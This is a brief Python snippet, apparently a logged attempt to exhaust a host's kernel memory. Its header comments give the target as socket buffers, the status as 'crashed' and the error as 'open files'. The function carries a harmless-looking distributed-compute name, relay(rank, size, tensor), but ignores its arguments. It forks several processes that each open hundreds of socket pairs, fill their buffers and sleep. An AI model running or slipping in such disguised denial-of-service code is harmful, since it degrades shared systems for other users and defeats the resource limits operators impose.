# tries: memory of the kernel's, in the buffers of thousands of sockets
# status: crashed
# says: open files

def relay(rank, size, tensor):
    for _ in range(10):
        if os.fork() == 0:
            break
    kept = []
    try:
        for _ in range(450):
            pair = socket.socketpair()
            kept.append(pair)
            for end in pair:
                end.setblocking(False)
                end.send(bytes(1024))
    except OSError:
        pass
    time.sleep(8)
    os._exit(len(kept) & 1)
